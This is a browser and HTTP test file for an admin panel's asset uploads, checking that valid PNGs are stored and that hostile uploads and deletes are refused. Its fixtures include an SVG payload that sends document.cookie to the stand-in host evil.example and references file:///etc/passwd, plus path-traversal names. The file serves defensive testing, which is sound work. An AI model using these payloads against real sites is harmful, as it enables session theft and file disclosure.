/// <reference lib="dom" />
/**
 * Asset uploads, friendly and hostile: a PNG uploaded in the browser is stored
 * re-encoded under uploads/, shown as a thumbnail and loaded by the
 * compositor's assets; a malicious SVG (named .png, sent as image/png), a text
 * file named .png, an oversized upload, a path name (`../../etc/passwd`), a
 * viewer's upload and one without the CSRF token are refused, each with its
 * message, and nothing is written outside the folder. The list says which
 * scenes use each asset; deleting one a scene uses is refused naming the
 * scene, one nobody uses is deleted (audited); a path, a missing file and a
 * viewer are refused.
 */
import assert from "node:assert/strict";
import { createCanvas } from "@napi-rs/canvas";
import type { Compositor } from "../../plugins/compositor/mod.ts";
import { MAX_ASSET_BYTES, sniff } from "../assets.ts";
import {
  ARTIFACTS,
  chromiumReady,
  httpRequest,
  launchChromium,
  panelEngine,
  sessionHeaders,
  signedInPage,
} from "./panel_kit.ts";

const ready = await chromiumReady();
const SCENES = new URL("../../scenes/", import.meta.url).pathname;
const SVG = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">
<script>fetch('https://evil.example/'+document.cookie)</script><image href="file:///etc/passwd"/></svg>`;

Deno.test("assets: the type comes from the bytes", () => {
  const png = createCanvas(2, 2).toBuffer("image/png");
  assert.equal(sniff(new Uint8Array(png)), "png");
  assert.equal(sniff(new Uint8Array(createCanvas(2, 2).toBuffer("image/jpeg"))), "jpeg");
  assert.equal(sniff(new TextEncoder().encode(SVG)), "svg");
  assert.equal(sniff(new TextEncoder().encode("\uFEFF  <svg>")), "svg");
  assert.equal(sniff(new TextEncoder().encode("GIF89a")), null);
  assert.equal(sniff(new Uint8Array(0)), null);
});

Deno.test({
  name: "assets: a PNG uploaded in the panel is re-encoded and shown; hostile uploads refused",
  ignore: !ready,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    const dir = await Deno.makeTempDir({ prefix: "sothebais-assets-" });
    // The scenes the panel edits: live names the upload as its background.
    const scenes = await Deno.makeTempDir({ prefix: "sothebais-assets-scenes-" });
    for (const e of Deno.readDirSync(SCENES)) {
      if (e.isFile && e.name.endsWith(".json")) {
        Deno.copyFileSync(`${SCENES}${e.name}`, `${scenes}/${e.name}`);
      }
    }
    const live = JSON.parse(Deno.readTextFileSync(`${scenes}/live.json`));
    live.background = { kind: "image", src: "uploads/genesis-art.png" };
    Deno.writeTextFileSync(`${scenes}/live.json`, JSON.stringify(live));
    const engine = await panelEngine({
      plugins: {
        "funds-book": {},
        auction: { watermark: "clock" },
        compositor: { assetsDir: dir },
      },
      admin: { scenesDir: scenes },
    });
    const browser = await launchChromium();
    try {
      const { page } = await signedInPage(
        browser,
        engine,
        { name: "ada", role: "admin" },
        "/admin/assets",
        { width: 1280, height: 900 },
      );
      const vic = await engine.enrolled("vic", "viewer");
      await page.waitForSelector("#asset-upload");
      const art = createCanvas(64, 48);
      const ctx = art.getContext("2d");
      ctx.fillStyle = "#c33";
      ctx.fillRect(0, 0, 64, 48);
      const file = `${dir}/../genesis-art.png`;
      await Deno.writeFile(file, art.toBuffer("image/png"));
      await page.setInputFiles("#asset-file", file);
      await page.click("#asset-send");
      await page.waitForSelector("#asset-notice");
      assert.equal(
        await page.textContent("#asset-notice"),
        "Stored uploads/genesis-art.png (64×48).",
      );
      await page.waitForFunction(() =>
        (document.querySelector('[data-path="uploads/genesis-art.png"] img') as HTMLImageElement)
          ?.naturalWidth === 64
      );
      const stored = await Deno.readFile(`${dir}/uploads/genesis-art.png`);
      assert.equal(sniff(stored), "png");
      const compositor = engine.service<Compositor>("compositor");
      assert.equal(compositor.widgets.assets.get("uploads/genesis-art.png")?.image.width, 64);
      await page.screenshot({ path: `${ARTIFACTS}assets.png`, fullPage: true });

      // Hostile uploads over HTTP, each refused with its message.
      // Another admin over HTTP (ada's code of this step is used already).
      const ana = await engine.enrolled("ana", "admin");
      const s = await engine.signIn("ana", ana.secret);
      const v = await engine.signIn("vic", vic.secret);
      const send = (
        name: string,
        body: Uint8Array,
        who = s,
        headers: Record<string, string> = {},
      ) =>
        fetch(`${engine.url}/admin/api/assets?name=${encodeURIComponent(name)}`, {
          method: "POST",
          headers: {
            "content-type": "image/png",
            origin: engine.url,
            cookie: who.cookie,
            "x-csrf-token": who.csrf,
            ...headers,
          },
          body: body as Uint8Array<ArrayBuffer>,
        });
      const png = new Uint8Array(art.toBuffer("image/png"));
      const cases: Array<[string, Promise<Response>, number, RegExp]> = [
        ["malicious SVG", send("logo.png", new TextEncoder().encode(SVG)), 400, /SVG is refused/],
        [
          "text named .png",
          send("notes.png", new TextEncoder().encode("hello")),
          400,
          /not a PNG, JPEG or WebP/,
        ],
        ["oversized", send("big", new Uint8Array(MAX_ASSET_BYTES + 1)), 413, /too big/],
        ["path traversal", send("../../etc/passwd", png), 400, /^name: /],
        ["a folder in the name", send("uploads/x", png), 400, /^name: /],
        ["a viewer", send("vic-art", png, v), 403, /admin role/],
        ["no CSRF token", send("nocsrf", png, s, { "x-csrf-token": "" }), 403, /CSRF/],
        [
          "another origin",
          send("evil", png, s, { origin: "https://evil.example" }),
          403,
          /another origin/,
        ],
        ["truncated PNG", send("broken", png.subarray(0, 40)), 400, /does not decode/],
      ];
      for (const [what, response, status, message] of cases) {
        const r = await response;
        const body = await r.json();
        assert.equal(r.status, status, what);
        assert.match(body.message, message, what);
      }
      const files = [...Deno.readDirSync(`${dir}/uploads`)].map((e) => e.name).sort();
      assert.deepEqual(files, ["genesis-art.png"]);
      assert.ok(![...Deno.readDirSync(`${dir}/..`)].some((e) => e.name === "passwd.png"));
      // The preview route takes only an upload's file name.
      for (const path of ["..%2F..%2Fetc%2Fpasswd", "genesis-art.svg", "x"]) {
        const r = await fetch(`${engine.url}/admin/api/assets/uploads/${path}`, {
          headers: { cookie: s.cookie },
        });
        assert.equal(r.status, 404, path);
        await r.body?.cancel();
      }
      const outsider = await fetch(`${engine.url}/admin/api/assets/uploads/genesis-art.png`);
      assert.equal(outsider.status, 401);
      await outsider.body?.cancel();

      // Used by a scene: the list says which, and a delete is refused naming it.
      const usedBy = (path: string) => page.textContent(`[data-path="${path}"] .used-by`);
      assert.equal(await usedBy("uploads/genesis-art.png"), "used by live");
      await page.fill("#asset-reason", "clearing out old art");
      await page.click('[data-path="uploads/genesis-art.png"] .asset-delete');
      await page.waitForFunction(() =>
        /is used by/.test(document.getElementById("asset-notice")?.textContent ?? "")
      );
      assert.equal(
        await page.textContent("#asset-notice"),
        "uploads/genesis-art.png is used by scene live: take it out of it first",
      );
      assert.ok(Deno.statSync(`${dir}/uploads/genesis-art.png`).isFile);
      // One nobody uses is deleted, and goes from the list.
      assert.equal((await send("spare", png)).status, 200);
      await page.reload();
      await page.waitForSelector('[data-path="uploads/spare.png"]');
      assert.equal(await usedBy("uploads/spare.png"), "not used by a scene");
      await page.fill("#asset-reason", "not needed");
      await page.click('[data-path="uploads/spare.png"] .asset-delete');
      await page.waitForFunction(() => !document.querySelector('[data-path="uploads/spare.png"]'));
      assert.equal(await page.textContent("#asset-notice"), "Deleted uploads/spare.png.");
      assert.deepEqual([...Deno.readDirSync(`${dir}/uploads`)].map((e) => e.name), [
        "genesis-art.png",
      ]);
      const del = (path: string, who = s) =>
        httpRequest(engine.url, "DeleteAsset", { path, reason: "hostile" }, sessionHeaders(who));
      for (
        const [path, status, message] of [
          ["../../etc/passwd", 400, /^path: /],
          ["uploads/../../x.png", 400, /^path: /],
          ["uploads/nope.png", 404, /no asset/],
          ["uploads/genesis-art.png", 409, /used by scene live/],
        ] as const
      ) {
        const r = await del(path);
        assert.equal(r.status, status, path);
        assert.match(r.json.message, message, path);
      }
      assert.equal((await del("uploads/genesis-art.png", v)).status, 403);
      const audit = await httpRequest(
        engine.url,
        "ListAudit",
        { action: "asset.delete" },
        sessionHeaders(s),
      );
      assert.deepEqual(
        (audit.json.responseData.entries as Array<{ subject: string; outcome: string }>)
          .map((e) => `${e.subject} ${e.outcome}`).sort(),
        [
          "uploads/genesis-art.png failed",
          "uploads/genesis-art.png failed",
          "uploads/nope.png failed",
          "uploads/spare.png ok",
        ],
      );
      await Deno.remove(file);
    } finally {
      await browser.close();
      await engine.stop();
      await Deno.remove(dir, { recursive: true });
      await Deno.remove(scenes, { recursive: true });
    }
  },
});
